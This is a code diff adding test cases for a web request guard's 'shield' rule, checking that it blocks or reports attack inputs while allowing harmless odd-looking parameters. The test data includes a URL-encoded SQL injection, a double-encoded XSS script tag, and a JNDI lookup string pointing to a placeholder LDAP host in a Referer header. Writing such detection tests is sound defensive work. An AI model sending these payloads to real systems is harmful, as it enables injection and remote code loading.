@@ -60,6 +60,17 @@ function reported(id: string, category?: string): Expected {
   return { ...allowed, wouldDeny: true, reason: reason(id, category, "report") };
 }
 
+function attack(id: string, effect: "deny" | "report"): Expected {
+  const isDenied = effect === "deny";
+  return {
+    action: isDenied ? "deny" : "allow",
+    rule: isDenied ? "shield" : null,
+    status: isDenied ? 403 : null,
+    wouldDeny: true,
+    reason: { rule: "shield", id, category: "attack", effect },
+  };
+}
+
 function reason(id: string, category: string | undefined, effect: Reason["effect"]) {
   return { rule: "bots", id, effect, ...(category === undefined ? {} : { category }) };
 }
@@ -302,7 +313,55 @@ export const ownCases: readonly Case<OwnGuardName>[] = [
   },
 ];
 
-export const allCases: readonly Case[] = [...cases, ...ownCases];
+/** What its rule `shield` must. */
+export const shieldCases: readonly Case<OwnGuardName>[] = [
+  {
+    name: "shield: allows parameters that only look odd",
+    guard: "own",
+    query: "?q=it%27s+5+%3C+6+%26+7&name=O%27Brien&sort=price-asc",
+    headers: browserHeaders(userAgents.chrome),
+    expected: allowed,
+  },
+  {
+    name: "shield: denies SQL in a parameter",
+    guard: "own",
+    query: "?id=1%27%20or%20%271%27=%271",
+    headers: browserHeaders(userAgents.chrome),
+    expected: attack("SQL_INJECTION", "deny"),
+  },
+  {
+    name: "shield: denies a script that is encoded twice",
+    guard: "own",
+    query: "?q=%253Cscript%253Ealert(1)%253C/script%253E",
+    headers: browserHeaders(userAgents.chrome),
+    expected: attack("XSS", "deny"),
+  },
+  {
+    name: "shield: denies a lookup in a header",
+    guard: "own",
+    headers: [
+      ...browserHeaders(userAgents.chrome),
+      ["Referer", `https://a.example/\${jndi:ldap://b.example/x}`],
+    ],
+    expected: attack("LOOKUP_INJECTION", "deny"),
+  },
+  {
+    name: "shield: allows what the policy excludes",
+    guard: "own",
+    query: "?content=%3Cscript%3Ealert(1)%3C/script%3E",
+    headers: browserHeaders(userAgents.chrome),
+    expected: allowed,
+  },
+  {
+    name: "shield: only reports in report mode",
+    guard: "ownReport",
+    query: "?id=1%27%20or%20%271%27=%271",
+    headers: browserHeaders(userAgents.chrome),
+    expected: attack("SQL_INJECTION", "report"),
+  },
+];
+
+export const allCases: readonly Case[] = [...cases, ...ownCases, ...shieldCases];
 
 /** The page of a guard that a case asks for, with its query. */
 export function pathOf(asked: Pick<Case, "guard" | "query">, page: string): string {
